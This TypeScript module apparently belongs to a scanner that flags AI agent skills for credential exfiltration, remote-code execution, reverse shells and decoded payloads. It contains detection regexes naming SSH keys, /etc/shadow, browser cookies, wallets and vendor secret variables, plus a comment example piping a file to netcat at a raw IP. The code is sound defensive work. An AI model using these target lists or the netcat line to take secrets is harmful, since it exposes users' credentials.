import type { Flow } from '../flow/flow.ts'
import { taintsOf, unknownPart, type FlowTaint } from '../flow/flow-value.ts'
import { pictureEncoding } from '../flow/picture-encoding.ts'
import { isStrange } from '../deeds/is-strange.ts'
import { hostKind } from '../hosts/host-kind.ts'
import { isOnlyAlike } from '../hosts/is-only-alike.ts'
import { isCodeHost } from '../hosts/is-code-host.ts'
import { isUnknownHost } from '../hosts/is-unknown-host.ts'
import { isKeptService } from '../hosts/is-kept-service.ts'
import { addressesIn, type Address } from '../hosts/addresses-in.ts'
import type { SkillView } from '../skill-view.ts'
import { belongsTo } from './belongs-to.ts'
import { decidingWords } from './deciding-words.ts'
import { flowTexts } from './flow-texts.ts'
import type { JudgedFlow } from './flow-rule.ts'
import { isOnlyStarted } from './is-only-started.ts'
import { keyForStranger } from './key-for-stranger.ts'
import { postedForAll } from './posted-for-all.ts'
import { weighDownload } from './weigh-download.ts'
import { weighHost } from './weigh-host.ts'

/** Files of keys that no service asks for, whatever the skill says it is. */
const nobodysBusiness =
  /\.ssh|id_(?:rsa|ed25519|ecdsa|dsa)|\.gnupg|keychain|Login Data|[Cc]ookies|logins\.json|key4\.db|wallet|keystore|Exodus|\.netrc|\.git-credentials|\/etc\/(?:shadow|passwd)|_history|environ|solana|Local Storage|security |keeper of passwords/
const vendors =
  /aws|gcloud|google|azure|docker|npm|pypi|github|\bgh\b|gitlab|kube|claude|anthropic|codex|openai|cargo|terraform|vault/gi
const vendorSecret =
  /AWS|AZURE|GCP|GOOGLE|GITHUB|GH_|GITLAB|OPENAI|ANTHROPIC|CLAUDE|SLACK|STRIPE|NPM|PYPI|DOCKER|SENDGRID|TWILIO|DATABASE|POSTGRES|MYSQL|MONGO|REDIS|SSH|JWT|HF_|HUGGINGFACE|CLOUDFLARE|VERCEL|SUPABASE|WALLET|PRIVATE|MNEMONIC|SEED|KUBE|VAULT|PASSWORD/

/** What is run: all of what is run as code, and of a command only what decides which program it is. */
function runTaints(flow: Flow): readonly FlowTaint[] {
  if (flow.kind === 'run-code') return taintsOf(flow.values)
  const words = decidingWords(flow)
  const decoded = taintsOf(words.filter((word) => !word.shape.includes(unknownPart))).filter(
    ({ kind }) => kind === 'decoded',
  )
  if (decoded.length > 0) return decoded
  return taintsOf(words.filter(({ shape }) => shape.startsWith(unknownPart) || shape === '' || /^[^\s]+$/.test(shape)))
}

/** Whose keys are held: `aws`, `kube`, `ssh`. */
function keepersOf(taints: readonly FlowTaint[]): ReadonlySet<string> {
  const found = taints
    .filter(({ kind }) => kind === 'credentials')
    .flatMap(
      ({ detail }) => detail.match(/aws|gcloud|azure|kube|\.ssh|gnupg|docker|npmrc|pypirc|netrc|git-credentials/) ?? [],
    )
  return new Set(found)
}

/** A service that gives every file in base64: who runs it hid nothing by that, and is judged for running what was sent. */
const givesBase64 = /^https:\/\/api\.github\.com\/repos\/[^/]{1,60}\/[^/]{1,100}\/(?:contents|git\/blobs|readme)\b/

const pouredOut = 'Pours what it reads into a connection to a machine without a name.'

/** `cat "$file" | nc 203.0.113.9 80`: no protocol, no name, and what goes out is only known when it runs. */
function isPouredOut({ callee, values, piece }: Flow, addresses: readonly Address[]): boolean {
  if (!/^(?:nc|ncat|netcat|\/dev\/tcp)$/.test(callee) || piece.role === 'fence' || piece.role === 'inline-code')
    return false
  return values.some(({ shape }) => shape === unknownPart) && addresses.some(({ host }) => hostKind(host) === 'address')
}

/** Reads a flow as an attack; one function for each rule that can see it so. */
export const flowJudges = {
  exfiltration(skill: SkillView, flow: Flow): JudgedFlow | undefined {
    if (flow.kind !== 'send') return undefined
    const taints = flowTexts.taints(flow.values)
    const addresses = flowTexts.addresses(flow.values)
    const handed = keyForStranger(skill, flow, addresses) ?? postedForAll(flow, taints)
    if (handed !== undefined || flow.callee === 'gh') return handed
    if (taints.length === 0)
      return isPouredOut(flow, addresses) ? { message: pouredOut, confidence: 'medium' } : undefined
    const found = taints.flatMap((taint) => {
      const judged = weighSent(skill, taint, addresses, flow)
      // What is gathered all over the machine is gathered far from where it goes.
      return judged === undefined ? [] : [taint.kind === 'personal' ? judged : { ...judged, taints: [taint] }]
    })
    const judged = found.find(({ severity }) => severity === undefined) ?? found[0]
    // Who sends keys of several services at once did not mistake one for another, however long the program is.
    if (judged?.deed !== 'credentials-sent' || keepersOf(taints).size < 3) return judged
    const { deed: _, ...surely } = judged
    return surely
  },

  download(skill: SkillView, flow: Flow): JudgedFlow | undefined {
    if (flow.kind !== 'run-code' && flow.kind !== 'run-shell') return undefined
    const remote = runTaints(flow).filter(({ kind, detail }) => kind === 'remote' && !detail.startsWith('socket:'))
    if (remote.length === 0) return undefined
    const addresses = remote.flatMap(({ detail }) => addressesIn(detail, 2))
    const isHidden = flow.values.some(({ file }) => file !== undefined && /\/\.[\w-]/.test(file))
    return {
      ...(isOnlyStarted(flow)
        ? { message: 'Starts a program with words that another machine sent.', deed: 'words-started' }
        : { message: 'Runs what another machine sent.' }),
      taints: remote,
      ...weighDownload(skill, flow.piece, { start: flow.start, addresses, isHidden }),
    }
  },

  shell(_: SkillView, flow: Flow): JudgedFlow | undefined {
    if (flow.kind !== 'run-code' && flow.kind !== 'run-shell') return undefined
    return runTaints(flow).some(({ kind, detail }) => kind === 'remote' && detail.startsWith('socket:'))
      ? { message: 'Runs as commands what comes in over a connection.' }
      : undefined
  },

  decoded(_: SkillView, flow: Flow): JudgedFlow | undefined {
    if (flow.kind !== 'run-code' && flow.kind !== 'run-shell') return undefined
    const taints = runTaints(flow)
    const isAnswer = taints.some(({ kind, detail }) => kind === 'remote' && givesBase64.test(detail))
    const decoded = taints.filter(
      ({ kind, detail }) =>
        kind === 'decoded' && !/unquote|URI|unescape/.test(detail) && !(isAnswer && /b64decode$|^atob$/.test(detail)),
    )
    if (decoded.length === 0) return undefined
    // What a page of WebAssembly can reach is what it is handed, and many a library carries some as text.
    if (flow.callee.startsWith('WebAssembly.'))
      return { message: 'Builds a program out of something encoded.', severity: 'warn', confidence: 'low' }
    // What builds objects out of it runs what it is told to.
    if (/pickle|joblib|torch|yaml|loads?$/i.test(flow.callee))
      return {
        message: 'Builds objects out of something encoded.',
        confidence: 'medium',
        ...(!/^(?:c?pickle|dill|cloudpickle)\./i.test(flow.callee) && { severity: 'warn' }),
      }
    const encoding = decoded[0]?.detail ?? 'an encoding'
    return {
      ...(isOnlyStarted(flow)
        ? { message: `Starts a program with words that were hidden by ${encoding}.`, deed: 'words-started' }
        : {
            message: `Runs what was hidden by ${encoding}.`,
            ...(encoding === pictureEncoding && { deed: 'picture-run' }),
          }),
      taints: decoded.slice(0, 1),
    }
  },
}

/** A `.env` of the project, or a file under the name of the skill, is what it works with. */
function isSkillsOwn({ name }: SkillView, file: string): boolean {
  if (/^(?:\.\/)?(?:\.env[\w.]{0,20}|credentials\.json)$/.test(file)) return true
  return name
    .split(/[^a-z0-9]+/)
    .some(
      (word) =>
        word.length >= 5 &&
        !/^(?:skill|agent|claude|codex|openai|tools?|config|files?)s?$/.test(word) &&
        file.toLowerCase().includes(word),
    )
}

/** A keeper of passwords is asked for one of them, by its name. */
const oneKept = /^(?:security find-(?:generic|internet)-password|op read|pass show|secret-tool lookup|vault kv get)\s/

/** Are all of them of services that many know, where nobody lays down anything for others? */
function isOnlyForServices(hosts: readonly string[]): boolean {
  return hosts.length > 0 && hosts.every((host) => isKeptService(host) && !isCodeHost(host))
}

const lookups = /^(?:socket\.(?:gethostbyname|getaddrinfo|gethostbyname_ex)|dns\.|Resolve-DnsName)/
const apisOfCode = /^(?:api\.github\.com|gitlab\.com|api\.bitbucket\.org)$/

/** Tools that copy whole folders to a machine of one's own, and how pages tell of that. */
const copies = /^(?:rsync|scp|sftp|ssh)$/
const tellsOfCopies = /deploy|\brsync|\bscp\b|\bsftp|\bssh\b|backup|back up|\bsync/i

// oxlint-disable-next-line complexity, consistent-return -- one short line for each kind of thing
function weighSent(
  skill: SkillView,
  taint: FlowTaint,
  addresses: readonly Address[],
  { callee }: Flow,
): JudgedFlow | undefined {
  const weights = addresses.map((address) => weighHost(skill, address))
  const isHostile = weights.includes('hostile')
  const isForeign = isHostile || weights.includes('foreign') || weights.includes('placeholder')
  const hosts = addresses.map(({ host }) => host)
  const isUntold = weights.includes('own') && hosts.every((host) => !skill.openText.includes(host))
  switch (taint.kind) {
    case 'environment': {
      const told = { message: 'Sends the whole environment over the network.' } as const
      if (isForeign || weights.includes('own')) return { ...told, confidence: isForeign ? 'high' : 'medium' }
      return weights.length === 0 ? { ...told, severity: 'warn', confidence: 'medium' } : undefined
    }
    case 'credentials': {
      const told = { message: 'Sends a file with credentials over the network.', deed: 'credentials-sent' } as const
      const isVendors = [...taint.detail.matchAll(vendors)].some(([word]) =>
        hosts.some((host) => host.includes(word.replace(/^gh$/, 'github').toLowerCase())),
      )
      // A client keeps the key of a service in a folder of the service's name.
      const isOfHost =
        !nobodysBusiness.test(taint.detail) &&
        hosts.some((host) =>
          host
            .split('.')
            .slice(0, -1)
            .some((label) => label.length >= 4 && taint.detail.toLowerCase().includes(label)),
        )
      if ((isVendors || isOfHost) && !isHostile) return undefined
      // One key out of a keeper, for a model or its like; other names that many know stand in what is asked of it.
      const isAsked = weights.includes('harmless') && !hosts.some((host) => isUnknownHost(host))
      if (!isHostile && isAsked && oneKept.test(taint.detail)) return undefined
      // What Git keeps is for the hosts of code, which others can be given it on as well.
      if (/\.git-credentials/.test(taint.detail) && hosts.length > 0 && hosts.every((host) => apisOfCode.test(host)))
        return { ...told, severity: 'warn', confidence: 'medium' }
      // A name is looked up to be found, and never with what a file of keys says: no long program does so by chance.
      if (lookups.test(callee)) return { message: 'Sends a file with credentials away in names that it looks up.' }
      if (isForeign) return told
      if (weights.length === 0) return { ...told, severity: 'warn', confidence: 'medium' }
      const isNobodys =
        nobodysBusiness.test(taint.detail) ||
        !isSkillsOwn(skill, taint.detail) ||
        hosts.every((host) => isOnlyAlike(skill, host))
      return isNobodys && weights.includes('own') ? { ...told, confidence: 'medium' } : undefined
    }
    case 'personal':
      // A host is easily named after a skill: one that no page tells of is nobody's.
      if (
        !(isForeign || isUntold) ||
        (taint.detail === 'the repository' && addresses.some(({ host }) => isCodeHost(host) || isKeptService(host))) ||
        // `keyring.get_password(APP, 'PEXELS_API_KEY')` is for api.pexels.com, and what a program keeps there for services that many know.
        (taint.detail.startsWith('keyring_') &&
          (hosts.some((host) => belongsTo(taint.detail, host)) || isOnlyForServices(hosts)))
      )
        return undefined
      return {
        message:
          'Sends what it finds all over the home directory, the clipboard, the screen or the session of a browser.',
        confidence: 'medium',
      }
    case 'project': {
      // Who copies whole folders as the pages tell knows where to; that a stranger is called is told elsewhere.
      if (taint.detail !== 'files' || (copies.test(callee) && tellsOfCopies.test(skill.openText))) return undefined
      const isToStranger = addresses.some(
        (address) => /^(?:foreign|hostile)$/.test(weighHost(skill, address)) && isStrange(skill, address),
      )
      if (!isToStranger) return undefined
      return { message: 'Sends all files of the project to a machine that no page tells of.' }
    }
    case 'secret': {
      const message = `Sends ${taint.detail.slice(0, 60)} to somebody whose it is not.`
      if (hosts.some((host) => belongsTo(taint.detail, host))) return undefined
      // The key of another service, for a host that only bears the name of the skill and stands on none of its pages.
      if (isUntold && !isForeign && vendorSecret.test(taint.detail)) return { message, confidence: 'medium' }
      if (!isForeign) return undefined
      if (isHostile) return { message }
      return vendorSecret.test(taint.detail) ? { message, confidence: 'medium' } : { message, severity: 'info' }
    }
    case 'remote':
    case 'decoded':
      return undefined
  }
}
